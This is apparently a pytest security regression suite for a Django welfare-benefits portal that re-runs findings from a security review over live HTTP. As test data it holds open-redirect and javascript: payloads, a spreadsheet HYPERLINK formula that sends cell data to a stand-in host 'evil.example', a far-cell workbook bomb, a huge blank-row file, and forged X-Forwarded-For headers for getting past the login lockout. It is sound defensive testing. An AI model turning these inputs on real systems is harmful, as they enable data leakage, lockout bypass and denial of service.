"""The attack of issue 16, repeatable: every probe of the findings, run over real HTTP against a live portal on
loopback (pytest-django's live server) with accounts of every role, as an outsider holding such an account
would. `make attack` runs this module alone; `make test` runs it with the rest, so no change can quietly
reopen a door.

Each test is one probe and names its finding. The unit tests beside each fix (tests/test_security_*.py) show
the guard in detail; these show it from the outside: status codes, bodies, headers and files as an attacker
receives them, through the same middleware, cookies and CSRF checks as a browser.
"""

import http.cookiejar
import io
import re
import urllib.error
import urllib.parse
import urllib.request
import uuid
import zipfile

import pytest
from django_otp.oath import TOTP
from openpyxl import Workbook, load_workbook

from matching.services import matching_run_confirm, matching_run_create
from welfare_portal.models import AccessLog, DevelopmentUnit, Province, Role

from .conftest import (
    LAMPANG,
    MUEANG_LAMPANG,
    PASSWORD,
    SAMUT_PRAKAN,
    SUBDISTRICT_NGAO,
    SUBDISTRICT_SAMUT_PRAKAN,
    add_totp_device,
    make_cardholder,
    make_user,
    valid_national_id,
)
from .matching_builders import applicant

pytestmark = [pytest.mark.attack, pytest.mark.usefixtures("live_db")]

EVIL = "evil.example"


class Response:
    def __init__(self, status, headers, body, url):
        self.status, self.headers, self.body, self.url = status, headers, body, url

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")

    @property
    def location(self) -> str:
        return self.headers.get("Location", "")


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


class Attacker:
    """One browser session against the live server: cookies, CSRF token, no automatic redirects (an attacker
    reads every Location), optional extra headers such as a forged X-Forwarded-For."""

    def __init__(self, base_url: str):
        self.base = base_url
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(self.jar), _NoRedirect, urllib.request.HTTPErrorProcessor
        )

    def _csrf(self) -> str:
        for cookie in self.jar:
            if cookie.name == "csrftoken":
                return cookie.value
        self.get("/login/")
        return next(cookie.value for cookie in self.jar if cookie.name == "csrftoken")

    def request(self, method, path, *, data=None, files=None, headers=None) -> Response:
        url = path if path.startswith("http") else self.base + path
        body, all_headers = None, {"Referer": self.base + "/", **(headers or {})}
        if method == "POST":
            fields = {"csrfmiddlewaretoken": self._csrf(), **(data or {})}
            all_headers["X-CSRFToken"] = fields["csrfmiddlewaretoken"]
            if files:
                body, content_type = _multipart(fields, files)
            else:
                body = urllib.parse.urlencode(fields, doseq=True).encode()
                content_type = "application/x-www-form-urlencoded"
            all_headers["Content-Type"] = content_type
        request = urllib.request.Request(url, data=body, method=method, headers=all_headers)
        try:
            with self.opener.open(request, timeout=120) as answer:
                return Response(answer.status, answer.headers, answer.read(), answer.url)
        except urllib.error.HTTPError as answer:
            return Response(answer.code, answer.headers, answer.read(), url)

    def get(self, path, **kwargs) -> Response:
        return self.request("GET", path, **kwargs)

    def post(self, path, data=None, **kwargs) -> Response:
        return self.request("POST", path, data=data, **kwargs)

    def login(self, user, password=PASSWORD, **kwargs) -> Response:
        answer = self.post("/login/", {"username": user.username, "password": password}, **kwargs)
        device = user.totpdevice_set.filter(confirmed=True).first()
        if answer.status == 302 and device is not None:
            token = TOTP(device.bin_key, device.step, device.t0, device.digits).token()
            answer = self.post("/otp/verify/", {"token": f"{token:06d}"})
        return answer


def _multipart(fields, files):
    boundary = uuid.uuid4().hex
    out = io.BytesIO()
    for name, value in fields.items():
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    for name, (filename, content) in files.items():
        out.write(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
            f"Content-Type: application/octet-stream\r\n\r\n".encode()
        )
        out.write(content + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


# ---- the portal under attack ------------------------------------------------------------------------------


@pytest.fixture
def accounts(live_db):
    cdd = DevelopmentUnit.objects.get(code="CDD")
    central = make_user("central1", Role.CENTRAL)
    add_totp_device(central)
    return {
        "central": central,
        "province": make_user("P5200", Role.PROVINCE, province_id=LAMPANG),
        "outsider": make_user("P1100", Role.PROVINCE, province_id=SAMUT_PRAKAN),
        "ao": make_user("AO5200", Role.AO, province_id=LAMPANG),
        "kjj": make_user("KJJ5200", Role.KJJ, province_id=LAMPANG),
        "team": make_user("T5201", Role.DISTRICT_TEAM, province_id=LAMPANG, district_id=MUEANG_LAMPANG),
        "unit": make_user("CDD5200", Role.UNIT, province_id=LAMPANG, unit=cdd),
    }


@pytest.fixture
def people(accounts):
    """Lampang: one person matched to CDD (active assignment), one interviewed in Ngao, one only on the roster;
    Samut Prakan: one card holder of another province."""
    assigned = applicant("CDD01")
    matching_run_confirm(
        run=matching_run_create(province=Province.objects.get(code=LAMPANG), user=accounts["central"]),
        user=accounts["central"],
    )
    return {
        "assigned": assigned,
        "ngao": applicant("DSD01", subdistrict=SUBDISTRICT_NGAO),
        "roster_only": make_cardholder(),
        "elsewhere": make_cardholder(SUBDISTRICT_SAMUT_PRAKAN),
    }


@pytest.fixture
def attacker(live_server):
    return lambda: Attacker(live_server.url)


def _as(attacker, user) -> Attacker:
    session = attacker()
    answer = session.login(user)
    assert answer.status == 302, f"login of {user.username} failed: {answer.status} {answer.text[:300]}"
    return session


def _xlsx(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _far_cell_workbook(cell="XFD1048576") -> bytes:
    """A valid 5 KB workbook whose one data cell sits at the sheet's last cell (finding 2)."""
    book = _xlsx([["เลขประจำตัวประชาชน", "ชื่อ"]])
    source, out = zipfile.ZipFile(io.BytesIO(book)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                row = re.sub(r"\D", "", cell)
                data = data.replace(
                    b"</sheetData>",
                    f'<row r="{row}"><c r="{cell}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'.encode(),
                )
            target.writestr(item, data)
    return out.getvalue()


def _all_ids_in(text: str) -> set[str]:
    return set(re.findall(r"(?<!\d)\d{13}(?!\d)", text))


# ---- High ---------------------------------------------------------------------------------------------------


def test_finding_1_form_4_1_masks_ids_logs_views_and_opens_only_for_active_assignments(attacker, accounts, people):
    province = _as(attacker, accounts["province"])
    assigned = people["assigned"]
    page = province.get(f"/progress/{assigned.pk}/")
    assert page.status == 200
    assert assigned.national_id not in page.text and not _all_ids_in(page.text)
    assert AccessLog.objects.filter(
        user=accounts["province"], action=AccessLog.Action.VIEW_PROGRESS, cardholder_id=assigned.pk
    ).exists()
    # Looping over pks: people without an active assignment, and people of another province, are not there.
    for person in (people["roster_only"], people["elsewhere"]):
        assert province.get(f"/progress/{person.pk}/").status == 404
        saved = province.post(f"/progress/{person.pk}/", {"status": "completed", "version": 0})
        assert saved.status == 404


@pytest.mark.parametrize("door", ["roster", "delegated"])
def test_finding_2_a_far_cell_workbook_is_refused_and_the_server_lives(attacker, accounts, people, door):
    bomb = _far_cell_workbook()
    assert len(bomb) < 10_000
    if door == "roster":
        session = _as(attacker, accounts["province"])
        answer = session.post("/imports/", {"kind": "roster"}, files={"file": ("far.xlsx", bomb)})
    else:
        session = _as(attacker, accounts["unit"])
        answer = session.post("/matching/delegated/", files={"file": ("far.xlsx", bomb)})
    followed = session.get(answer.location) if answer.status == 302 else answer
    assert "ไม่รับไฟล์" in followed.text or "เกิน" in followed.text, followed.text[:2000]
    assert session.get("/").status == 200  # the server is still there


# ---- Medium -------------------------------------------------------------------------------------------------


def _search_12(session, text, district=MUEANG_LAMPANG) -> Response:
    answer = session.post(f"/menu/1.2/?district={district}", {"district": district, "q": text})
    return session.get(answer.location) if answer.status == 302 else answer


def test_finding_3_id_prefixes_teach_a_masked_role_nothing_and_lookups_are_limited(
    attacker, accounts, people, settings, fixed_window
):
    settings.LOOKUP_RATE = "12/m"
    province = _as(attacker, accounts["province"])
    target = people["assigned"]
    everyone = _search_12(province, "").text
    for length in (1, 4, 8, 12):
        answer = _search_12(province, target.national_id[:length])
        assert target.national_id not in answer.text and not re.search(r"search=[^&\"]*\d{4}", answer.url)
        listed = answer.text.count("/people/")
        assert listed in (0, everyone.count("/people/")), f"a {length}-digit prefix narrowed the list"
    exact = _search_12(province, target.national_id)
    assert exact.status == 200 and f"/people/{target.pk}/" in exact.text
    assert target.national_id not in exact.text and target.national_id not in exact.url
    assert AccessLog.objects.filter(user=accounts["province"], action=AccessLog.Action.SEARCH_ID).count() >= 5
    statuses = {_search_12(province, valid_national_id(60_000_000 + n)).status for n in range(12)}
    assert 429 in statuses, "a script looping IDs was never stopped"


@pytest.mark.parametrize(
    "next_url",
    [
        f"https://{EVIL}/",
        f"//{EVIL}/",
        f"https:{EVIL}",
        f"/\\{EVIL}",
        f"\\\\{EVIL}",
        f"http:/\\/{EVIL}",
        f"https://{EVIL}%2F..",
        "javascript:alert(1)",
    ],
)
def test_finding_4_no_next_leaves_the_portal(attacker, accounts, next_url):
    session = attacker()
    quoted = urllib.parse.quote(next_url, safe="")
    answer = session.post(
        f"/login/?next={urllib.parse.quote('/otp/verify/?next=' + quoted, safe='')}",
        {"username": "central1", "password": PASSWORD},
    )
    device = accounts["central"].totpdevice_set.get()
    for _ in range(3):  # follow the portal's own redirects to the second factor
        location = answer.location
        assert EVIL not in urllib.parse.unquote(location).split("?")[0] and not location.startswith("javascript")
        if not location.startswith("/otp/"):
            break
        token = TOTP(device.bin_key, device.step, device.t0, device.digits).token()
        answer = session.post(location, {"token": f"{token:06d}"})
    location = answer.location
    assert answer.status == 302
    target = urllib.parse.urlsplit(location)
    assert target.netloc in ("", urllib.parse.urlsplit(session.base).netloc), location
    assert not location.startswith(("//", "/\\", "javascript")), location


def test_finding_5_a_forged_forwarded_address_does_not_escape_the_lockout(attacker, accounts):
    session = attacker()
    for n in range(6):
        session.post(
            "/login/",
            {"username": "P5200", "password": "wrong-password"},
            headers={"X-Forwarded-For": f"203.0.113.{n}"},
        )
    answer = session.post(
        "/login/", {"username": "P5200", "password": PASSWORD}, headers={"X-Forwarded-For": "198.51.100.7"}
    )
    assert answer.status != 302, "a direct client chose a new address with a header and got past the lockout"


def test_finding_6_every_download_escapes_formulas(attacker, accounts, people):
    from cardholders.models import Cardholder
    from matching.services import delegation_create

    formula = '=HYPERLINK("http://evil.example/?"&A2,"คลิก")'
    pending = applicant("CDD02")  # interviewed after the run: still waiting, so the delegation hands it over
    Cardholder.objects.filter(pk=pending.pk).update(first_name=formula, village="@SUM(1+1)")
    delegation_create(
        province=Province.objects.get(code=LAMPANG),
        unit=DevelopmentUnit.objects.get(code="CDD"),
        user=accounts["kjj"],
    )
    unit = _as(attacker, accounts["unit"])
    answer = unit.get("/matching/delegated/?format=xlsx")
    assert answer.status == 200
    cells = [c.value for row in load_workbook(io.BytesIO(answer.body)).active.iter_rows() for c in row]
    assert any(isinstance(v, str) and "HYPERLINK" in v for v in cells), "the probe's name is not in the file"
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in cells)


def test_finding_8_the_roster_preview_does_not_tell_who_holds_a_card_elsewhere(attacker, accounts, people):
    province = _as(attacker, accounts["province"])
    unknown = valid_national_id(77_000_001)
    rows = [["เลขประจำตัวประชาชน", "คำนำหน้า", "ชื่อ", "นามสกุล", "รหัสตำบล"]]
    rows += [[people["elsewhere"].national_id, "นาย", "ก", "ข", 520101], [unknown, "นาย", "ค", "ง", 520101]]
    answer = province.post("/imports/", {"kind": "roster"}, files={"file": ("probe.xlsx", _xlsx(rows))})
    assert answer.status == 302
    page = province.get(answer.location).text
    assert "จังหวัดอื่น" not in page
    assert AccessLog.objects.filter(user=accounts["province"], action=AccessLog.Action.PROBE_OUTSIDE).exists()


def test_finding_7_a_file_of_blank_rows_is_refused_before_it_is_read(attacker, accounts, people):
    province = _as(attacker, accounts["province"])
    blank = "เลขประจำตัวประชาชน,ชื่อ\n".encode() + b",\n" * 3_000_000
    answer = province.post("/imports/", {"kind": "roster"}, files={"file": ("blank.csv", blank)})
    followed = province.get(answer.location) if answer.status == 302 else answer
    assert "ไม่รับไฟล์" in followed.text or "เกิน" in followed.text, followed.text[:2000]
    assert province.get("/").status == 200


def test_finding_7_errors_are_capped_and_counted(attacker, accounts, people, settings):
    settings.IMPORT_MAX_ERRORS = 50
    province = _as(attacker, accounts["province"])
    rows = [["เลขประจำตัวประชาชน", "คำนำหน้า", "ชื่อ", "นามสกุล", "รหัสตำบล"]]
    rows += [[f"12345{n:04d}", "นาย", "ก", "ข", 520101] for n in range(300)]
    answer = province.post("/imports/", {"kind": "roster"}, files={"file": ("bad.xlsx", _xlsx(rows))})
    assert answer.status == 302
    page = province.get(answer.location).text
    assert "300" in page and "50" in page, page[:3000]
    errors = province.get(answer.location.rstrip("/") + "/errors.xlsx")
    assert errors.status == 200
    listed = sum(1 for row in load_workbook(io.BytesIO(errors.body)).active.iter_rows(values_only=True) if row[0])
    assert listed < 60


# ---- Low ----------------------------------------------------------------------------------------------------


def test_finding_9_a_district_team_sees_only_its_district_in_3_5(attacker, accounts, people):
    team = _as(attacker, accounts["team"])
    for path in ("/menu/3.5/?format=csv", "/menu/2.2/?format=csv"):
        answer = team.get(path)
        assert answer.status == 200
        assert "งาว" not in answer.text, f"{path} shows the district of Ngao to the team of Mueang Lampang"


@pytest.mark.parametrize("weak", ["P5200P5200", "12149P5200", "lampang2561", "welfare2561", "p5200-password"])
def test_finding_10_weak_passwords_are_refused_in_thai(attacker, accounts, weak):
    province = _as(attacker, accounts["province"])
    answer = province.post(
        "/password/change/", {"old_password": PASSWORD, "new_password1": weak, "new_password2": weak}
    )
    assert answer.status == 200, f"{weak} was accepted"
    assert re.search("[ก-๙]", answer.text)


def test_finding_11_personal_pages_are_not_kept_by_shared_browsers(attacker, accounts, people):
    province = _as(attacker, accounts["province"])
    for path in (f"/people/{people['assigned'].pk}/", f"/progress/{people['assigned'].pk}/", "/menu/3.5/?format=csv"):
        answer = province.get(path)
        assert answer.status == 200, path
        assert "no-store" in answer.headers.get("Cache-Control", ""), path


@pytest.mark.parametrize("path", ["/menu/1.2/?district=5201&q=%00", "/menu/3.1/?unit=%00", "/menu/4.2/?unit=%00"])
def test_finding_12_a_nul_byte_is_a_clear_400_not_a_500(attacker, accounts, path):
    province = _as(attacker, accounts["province"])
    answer = province.get(path)
    assert answer.status == 400
    assert "Traceback" not in answer.text and re.search("[ก-๙]", answer.text)


def test_finding_12_errors_show_no_debug_pages(attacker, accounts):
    province = _as(attacker, accounts["province"])
    answer = province.get("/no-such-page/")
    assert answer.status == 404
    assert "URLconf" not in answer.text and "ไม่พบ" in answer.text
